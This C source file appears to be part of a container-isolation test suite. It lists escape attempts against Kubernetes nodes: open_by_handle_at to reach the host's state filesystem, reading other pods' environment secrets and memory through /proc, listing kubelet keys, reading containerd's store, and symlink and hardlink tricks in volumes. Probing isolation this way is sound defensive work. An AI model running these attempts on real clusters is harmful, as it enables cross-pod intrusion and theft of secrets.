/* SPDX-License-Identifier: Apache-2.0 */
/* Files of the host and of other pods. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* fs/exportfs: the simplest handle of ext4 and others is the number of an inode and its generation. */
enum { HANDLE_INODE_GENERATION = 1 };

/*
 * A file that the runtime binds into the container lies on the state file system, and a handle of inode 2 is that
 * file system's root: from there on to any file of any pod.
 */
static int walk_by_handle(const char *argument)
{
	union {
		struct file_handle handle;
		char bytes[sizeof(struct file_handle) + 8];
	} root;
	unsigned int inode[2] = { 2, 0 };
	int on_state = open(argument, O_RDONLY | O_CLOEXEC);

	if (on_state < 0)
		return -errno;
	root.handle.handle_bytes = sizeof(inode);
	root.handle.handle_type = HANDLE_INODE_GENERATION;
	memcpy(root.handle.f_handle, inode, sizeof(inode));
	int folder = open_by_handle_at(on_state, &root.handle, O_RDONLY | O_CLOEXEC);
	int result = result_of(folder);

	if (folder >= 0) {
		result = result_of(openat(folder, "lib/kubelet", O_RDONLY | O_CLOEXEC));
		close(folder);
	}
	close(on_state);
	return result;
}

static int read_of_process(const char *argument)
{
	const char *path = process_file("other-pod", argument);

	return path ? try_read(path) : UNSEEN;
}

static int write_of_process(const char *argument)
{
	const char *path = process_file("other-pod", argument);

	return path ? try_open(path, O_WRONLY) : UNSEEN;
}

/* Looks for argument in each folder below the host's folder of that kind. */
static int in_any_folder(const char *folder, const char *argument, int flags)
{
	char path[PATH_MAX];
	DIR *list = opendir(folder);
	const struct dirent *entry;
	int result = -ENOENT;

	if (!list)
		return -errno;
	while (result != 0 && (entry = readdir(list))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s/%s", folder, entry->d_name, argument);
		int tried = try_open(path, flags);

		if (tried != -ENOENT)
			result = tried;
	}
	closedir(list);
	return result;
}

static int read_layer(const char *argument)
{
	return in_any_folder(
		host_path("/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots"), argument,
		O_RDONLY);
}

static int write_layer(const char *argument)
{
	return in_any_folder(
		host_path("/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots"), argument,
		O_WRONLY);
}

static int list_host(const char *argument)
{
	return try_list(host_path(argument));
}

static int read_host(const char *argument)
{
	return try_read(host_path(argument));
}

/* A link in a volume is followed by whoever reads the volume: in here it leads to the container's own root. */
static int link_out(const char *argument)
{
	symlink(argument, VOLUME "/link");
	int result = try_read(VOLUME "/link");

	unlink(VOLUME "/link");
	return result;
}

/* The agent reads this file once the container has ended: it must not become a link to one of the host. */
static int replace_message(const char *argument)
{
	return result_of(unlink(argument));
}

static int hard_link(const char *argument)
{
	int result = result_of(link(argument, VOLUME "/hard"));

	unlink(VOLUME "/hard");
	return result;
}

const struct attempt files[] = {
	{ "handle-walk", walk_by_handle, "/etc/hosts",
	 "open_by_handle_at: from a bound file to the state's root" },
	{ "pod-root-read", read_of_process, "root/www/index.html", "another pod's file by /proc/PID/root" },
	{ "pod-cwd-list", read_of_process, "cwd/www/index.html", "... by /proc/PID/cwd" },
	{ "pod-root-write", write_of_process, "root/www/index.html", "... to write" },
	{ "pod-environ", read_of_process, "environ", "another pod's environment, where secrets are" },
	{ "pod-mem", write_of_process, "mem", "another pod's memory" },
	{ "pod-maps", read_of_process, "maps", "another pod's memory layout" },
	{ "pod-volumes", list_host, "/var/lib/kubelet/pods", "all pods' volumes" },
	{ "pod-layer-read", read_layer, "fs/www/index.html", "another pod's image layer" },
	{ "pod-layer-write", write_layer, "fs/www/index.html", "... to write" },
	{ "pod-logs", list_host, "/var/log/pods", "all pods' logs" },
	{ "agent-keys", list_host, "/var/lib/kubelet/pki", "the agent's key of the cluster" },
	{ "agent-state", read_host, "/var/lib/kubelet/cpu_manager_state", "the agent's state" },
	{ "runtime-state", list_host, "/run/containerd/io.containerd.runtime.v2.task/k8s.io",
	 "the bundles of containers" },
	{ "runtime-store", read_host, "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db",
	 "the runtime's store" },
	{ "link-in-volume", link_out, "/../../../etc/kubernetes/kubelet.yaml",
	 "a link in a volume to a file of the host" },
	{ "message-unlink", replace_message, "/dev/termination-log",
	 "put a link in place of the file that the agent reads" },
	{ "hosts-hardlink", hard_link, "/etc/hosts", "a second name for a file of the agent" },
	{ 0 },
};
